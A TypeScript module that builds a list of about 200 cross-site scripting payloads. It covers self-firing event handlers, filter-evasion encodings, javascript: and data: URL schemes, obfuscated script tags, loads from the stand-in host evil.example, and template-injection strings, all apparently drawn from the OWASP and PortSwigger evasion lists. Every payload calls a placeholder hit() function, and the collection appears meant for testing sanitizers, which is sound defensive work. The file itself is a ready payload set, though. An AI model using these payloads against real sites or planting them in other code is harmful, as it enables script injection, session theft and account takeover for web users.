const run = 'hit()';
const evil = '//evil.example/x';

/** Elements that run a handler by themselves, without a person. */
const selfStarting: readonly (readonly [string, string])[] = [
  ['img src=x', 'onerror'],
  ['img srcset=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['video src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['iframe', 'onload'],
  ['xss style=animation:1s', 'onanimationstart'],
  ['div tabindex=1 autofocus', 'onfocusin'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onend'],
];

/** How the handler is written so that a filter does not see it. */
const disguises: readonly ((element: string, handler: string) => string)[] = [
  (element, handler) => `<${element} ${handler}=${run}>`,
  (element, handler) => `<${element} ${handler}="${run}"//`,
  (element, handler) => `"><${element} ${handler}=${run}>`,
  (element, handler) => `'><${element.toUpperCase()} ${handler.toUpperCase()}='${run}'>`,
  (element, handler) => `</textarea></title><${element} ${handler}=&#104;it()>`,
];

function makePayloads(): string[] {
  const handlers = selfStarting.flatMap(([element, handler]) =>
    disguises.map((disguise) => disguise(element, handler)),
  );
  const sources = ['script', 'iframe', 'img', 'embed', 'audio', 'video', 'frame', 'input type=image'].flatMap(
    (element) => [`<${element} src=${evil}></${element}>`, `"><${element} src="https:${evil}">`],
  );
  const schemes = [
    'javascript:hit()',
    'JaVaScRiPt:hit()',
    'java\tscript:hit()',
    'javascript&colon;hit()',
    '\x01javascript:hit()',
    'data:text/html,<script>hit()</script>',
    'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
    'vbscript:hit()',
  ].flatMap((url) => [url, `<a href="${url}">x</a>`, `<iframe src="${url}">`, `[x](${url})`]);
  const scripts = [
    '<script>hit()</script>',
    '<ScRiPt>hit()</sCrIpT>',
    '<script>hit()//',
    '<<script>hit();//<</script>',
    '<scr<script>ipt>hit()</scr</script>ipt>',
    '<script\x0d>hit()</script>',
    '<script/x>hit()</script>',
    '</script><script>hit()</script>',
    '<svg><script>hit()</script></svg>',
    '<svg><script>&#104;it()</script></svg>',
    '<math><mi xlink:href="javascript:hit()">x</mi></math>',
    '<template><script>hit()</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    '<!--><script>hit()</script-->',
    '<![CDATA[<script>hit()</script>]]>',
    '<xml><script>hit()</script></xml>',
    '<base href="https://evil.example/">',
    `<meta http-equiv=refresh content="0;url=https:${evil}">`,
    `<link rel=import href=https:${evil}>`,
    `<link rel=prefetch href=https:${evil}>`,
    `<style>@import 'https:${evil}';</style>`,
    `<div style="background:url(https:${evil})">x</div>`,
    `<form action=https:${evil}><input type=submit autofocus></form>`,
    `<table background="https:${evil}">`,
  ];
  const places = [
    "';hit();//",
    '";hit();//',
    '`;hit();//',
    '\\";hit();//',
    '\u0024{hit()}',
    '{{constructor.constructor("hit()")()}}',
    '#{hit()}',
    '<%= hit() %>',
  ];
  return [...handlers, ...sources, ...schemes, ...scripts, ...places];
}

/**
 * 200 texts that run script, load something or break out of their place wherever text is taken for markup: the known
 * families (OWASP's filter evasion list, PortSwigger's cheat sheet), each with several carriers. All of them, if they
 * run, call `hit()`; all that load anything ask `evil.example`.
 */
export const xssPayloads: readonly string[] = makePayloads();
